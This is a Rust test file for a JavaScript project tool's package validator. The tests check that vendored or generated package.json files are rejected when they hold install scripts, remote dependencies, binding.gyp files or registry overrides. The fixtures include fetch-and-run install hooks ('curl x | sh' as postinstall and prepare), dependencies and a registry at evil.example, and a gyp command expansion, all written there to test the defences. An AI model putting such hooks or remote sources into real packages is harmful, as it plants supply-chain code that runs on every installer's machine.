//! Running something as soon as it is there: what npm, node-gyp and other tools do without being asked.

use std::collections::BTreeMap;

use jskit::files::Memory;
use jskit::path::AppPath;
use jskit::plan::{self, Action, FileStep, Plan, Realize, Step};
use jskit::{brings, change::Ownership};

use super::{Case, case, with};
use crate::descriptor::support::{catalog, error_said, lock, package, text};

const VENDOR: &str = "[vendor]\ninclude = true\n";
const PACKAGE: &str = "[[files]]\nfrom = 'p.json'\nto = 'packages/evil/package.json'\n";

fn file(target: &str) -> String {
    format!("[[files]]\nfrom = 'a'\nto = '{target}'\n")
}

fn vendored(name: &'static str, rest: &str, message: &'static str) -> Case {
    let manifest = format!(r#"{{"name":"@jskit-ai/bad","version":"0.1.0",{rest}}}"#);
    with(name, VENDOR, &[("vendor/package.json", &manifest)], message)
}

fn written(name: &'static str, manifest: &str, message: &'static str) -> Case {
    with(name, PACKAGE, &[("app/p.json", manifest)], message)
}

#[expect(clippy::too_many_lines, reason = "one table")]
pub fn cases() -> Vec<Case> {
    let own = r#"{"name":"@jskit-ai/bad","version":"0.1.0"}"#;
    vec![
        vendored(
            "vendored install script",
            r#""scripts":{"postinstall":"curl x | sh"}"#,
            "`vendor/package.json` has the script `postinstall`, which npm runs by itself",
        ),
        vendored(
            "vendored script of pnpm",
            r#""scripts":{"pnpm:devPreinstall":"curl x | sh"}"#,
            "`vendor/package.json` has the script `pnpm:devPreinstall`, which npm runs by itself",
        ),
        vendored(
            "vendored dependency from git",
            r#""dependencies":{"x":"git+https://evil.example/x.git"}"#,
            "`vendor/package.json` has the dependencies `x`, whose version `git+https://evil.example/x.git` has",
        ),
        vendored(
            "vendored dependency from a folder",
            r#""optionalDependencies":{"x":"file:./x"}"#,
            "`vendor/package.json` has the optionalDependencies `x`, whose version `file:./x` has",
        ),
        vendored(
            "vendored dependency from an archive",
            r#""devDependencies":{"x":"https://evil.example/x.tgz"}"#,
            "`vendor/package.json` has the devDependencies `x`, whose version `https://evil.example/x.tgz` has",
        ),
        vendored(
            "vendored dependency that is no text",
            r#""peerDependencies":{"x":{"version":"1.0.0"}}"#,
            "`vendor/package.json` has the peerDependencies `x`, whose version is no text",
        ),
        vendored(
            "vendored command",
            r#""bin":{"vite":"./evil.js"}"#,
            "`vendor/package.json` has the key `bin`, which a package can't say anything by",
        ),
        vendored(
            "vendored gypfile",
            r#""gypfile":true"#,
            "`vendor/package.json` has the key `gypfile`, which a package can't say anything by",
        ),
        vendored(
            "vendored overrides",
            r#""overrides":{"vue":"file:./vue"}"#,
            "`vendor/package.json` has the key `overrides`, which a package can't say anything by",
        ),
        vendored(
            "vendored package manager",
            r#""packageManager":"yarn@https://evil.example/yarn.js""#,
            "`vendor/package.json` has the key `packageManager`, which a package can't say anything by",
        ),
        vendored(
            "vendored scripts that are no table",
            r#""scripts":["postinstall"]"#,
            "`vendor/package.json` has `scripts`, but no table of names",
        ),
        with(
            "vendored binding.gyp",
            VENDOR,
            &[("vendor/package.json", own), ("vendor/binding.gyp", "{'targets':[{'x':'<!(id)'}]}")],
            "the template `vendor/binding.gyp` is built by npm as soon as it is there",
        ),
        with(
            "vendored binding.gyp in capitals",
            VENDOR,
            &[("vendor/package.json", own), ("vendor/Binding.GYP", "{}")],
            "the template `vendor/Binding.GYP` is built by npm",
        ),
        with(
            "vendored package below",
            VENDOR,
            &[("vendor/package.json", own), ("vendor/below/package.json", r#"{"scripts":{"prepare":"curl x | sh"}}"#)],
            "`vendor/below/package.json` has the script `prepare`, which npm runs by itself",
        ),
        with(
            "vendored settings of npm",
            VENDOR,
            &[("vendor/package.json", own), ("vendor/.npmrc", "registry=https://evil.example\n")],
            "`vendor/.npmrc` sets `registry`; a package may set",
        ),
        written(
            "package of the app with an install script",
            r#"{"name":"@local/evil","scripts":{"postinstall":"curl x | sh"}}"#,
            "`app/p.json` has the script `postinstall`, which npm runs by itself",
        ),
        written(
            "package of the app with a script that a template makes",
            r#"{"name":"@local/evil","scripts":{"[= 'POSTINSTALL' | kebab =]":"curl x | sh"}}"#,
            "bad-template: `app/p.json` has the script `postinstall`, which npm runs by itself",
        ),
        written(
            "package of the app from elsewhere",
            r#"{"name":"@local/evil","dependencies":{"x":"github:evil/x"}}"#,
            "`app/p.json` has the dependencies `x`, whose version `github:evil/x` has",
        ),
        written(
            "package of the app in another's place",
            r#"{"name":"vue"}"#,
            "`app/p.json` has the name `vue`, but a package of the app is `@local/NAME`",
        ),
        written("package of the app that is no JSON", "{name: 'x'}", "`app/p.json` is no JSON object"),
        with(
            "package of the app in capitals",
            "[[files]]\nfrom = 'p.json'\nto = 'packages/evil/Package.JSON'\n",
            &[("app/p.json", r#"{"directories":{"bin":"bin"}}"#)],
            "`app/p.json` has the key `directories`, which a package can't say anything by",
        ),
        with(
            "generated package",
            "schema = 1\nid = 'bad'\nversion = '0.1.0'\nkind = 'generator'\nsummary = 'x'\n[[subcommands]]\nname = 'a'\nsummary = 'a'\n[[subcommands.arguments]]\nname = 'x'\n[[subcommands.files]]\nfrom = 'p.json'\nto = 'packages/[= argument.x =]/package.json'\n",
            &[("app/p.json", r#"{"scripts":{"install":"[= argument.x =]"}}"#)],
            "`app/p.json` has the script `install`, which npm runs by itself",
        ),
        case("binding.gyp", file("binding.gyp"), "the target `binding.gyp` is built by npm as soon as it is there"),
        case("included by a gyp file", file("packages/a/x.gypi"), "the target `packages/a/x.gypi` is built by npm"),
        case(
            "lock file below",
            file("packages/a/Yarn.lock"),
            "the target `packages/a/Yarn.lock` belongs to the package manager",
        ),
        case(
            "shrinkwrap",
            file("npm-shrinkwrap.json"),
            "the target `npm-shrinkwrap.json` belongs to the package manager",
        ),
        case("hooks of pnpm", file(".pnpmfile.cjs"), "the target `.pnpmfile.cjs` belongs to the package manager"),
        case(
            "settings of pnpm",
            file("pnpm-workspace.yaml"),
            "the target `pnpm-workspace.yaml` belongs to the package manager",
        ),
        case("settings of yarn", file(".yarnrc.yml"), "the target `.yarnrc.yml` belongs to the package manager"),
        case(
            "release of yarn",
            file(".yarn/releases/yarn.cjs"),
            "the target `.yarn/releases/yarn.cjs` belongs to the package manager",
        ),
        with(
            "below the pages of a surface",
            "[[surfaces]]\nid = 's'\nlabel = 'S'\npages-root = 's'\n[[files]]\nfrom = 'a'\nto-surface = 's'\npath = 'binding.gyp'\n",
            &[("app/a", "")],
            "the target `src/pages/s/binding.gyp` is built by npm",
        ),
    ]
}

/// A template may come to something else in an app than with sample values: what is written is looked at.
#[test]
fn what_a_template_comes_to_is_looked_at_before_it_is_written() {
    let wants = |path: &str, text: &str| {
        let path = AppPath::parse(path).unwrap();
        let bytes = text.as_bytes().to_vec();
        let file = FileStep { path, was: Vec::new(), bytes, ownership: Ownership::App, executable: false };
        Step { package: "evil".to_owned(), reason: String::new(), action: Action::File(file) }
    };
    let said = |steps: Vec<Step>| {
        let plan = Plan { steps, packages: BTreeMap::new(), ..Plan::default() };
        let lock = lock(&[]);
        let files = Memory::default();
        let app = lock.app.clone().unwrap();
        match plan::realize(&plan, &Realize { force: true, partial: true, ..Realize::new(&files, &lock, app) }) {
            Ok(set) => format!("{} changes", set.changes.len()),
            Err(error) => error_said(&error),
        }
    };
    let evil = r#"{"scripts":{"prepare":"x"},"dependencies":{"y":"../y"}}"#;
    assert_eq!(
        said(vec![wants("packages/evil/package.json", evil), wants("packages/evil/binding.gyp", "{}")]),
        "bad-template: package `evil`: `packages/evil/package.json` has the script `prepare`, which npm runs by itself\n\
         package `evil`: `packages/evil/package.json` has the dependencies `y`, whose version `../y` has `/`, but is made of versions and \
         range operators; a URL, a folder or another package is not taken\n\
         package `evil`: `packages/evil/binding.gyp` is built by npm as soon as it is there: `npm install` would run what it says\n\
         hint: nothing was changed; this is for the package's author to mend\n"
    );
    let good = r#"{"name":"@local/good","scripts":{"start":"x"},"dependencies":{"y":"^1.0.0"}}"#;
    assert!(said(vec![wants("packages/good/package.json", good)]).ends_with(" changes"));
}

/// Whoever is asked to trust a package reads on which occasions its files run.
#[test]
fn what_runs_files_is_named() {
    let files = [
        ".husky/pre-commit",
        ".github/workflows/more.yml",
        ".vscode/tasks.json",
        "vite.config.js",
        "eslint.config.js",
        "tests/x.test.js",
        "src/x.js",
    ];
    let tables = files.map(|to| format!("[[files]]\nfrom = 'a'\nto = '{to}'\nraw = true\n")).concat();
    let npm = "[[npm]]\ndependencies = { left-pad = '1.3.0' }\nscripts = { prebuild = 'x', preview = 'y' }\n";
    let manifest = r#"{"name":"@jskit-ai/bad","version":"0.1.0","dependencies":{"right-pad":"1.0.0"}}"#;
    let package = package(&text("bad", &format!("{tables}{npm}{VENDOR}")), &[("vendor/package.json", manifest)]);
    assert_eq!(
        brings::effects(&catalog(&[]), &package)[..15],
        [
            "Code that will run: wherever the app imports its runtime",
            "Code that will run: npm packages that it needs, from their installation on",
            "Code that will run: what it writes into the app, as the app's own code",
            "Code that will run: whenever something is committed: .husky/pre-commit",
            "Code that will run: in CI, with all that it may reach: .github/workflows/more.yml",
            "Code that will run: in the editor or the shell, when the folder is opened: .vscode/tasks.json",
            "Code that will run: when the app is developed and built: vite.config.js",
            "Code that will run: when its code is checked or formatted: eslint.config.js",
            "Code that will run: when its tests run: tests/x.test.js",
            "package.json: dependency @jskit-ai/bad: 0.1.0",
            "package.json: dependency left-pad: 1.3.0",
            "package.json: script that npm runs with another prebuild: x",
            "package.json: script preview: y",
            "npm packages of its own: right-pad 1.0.0 (by vendor/@jskit-ai/bad/package.json)",
            "App-owned files: .husky/pre-commit",
        ]
    );
}
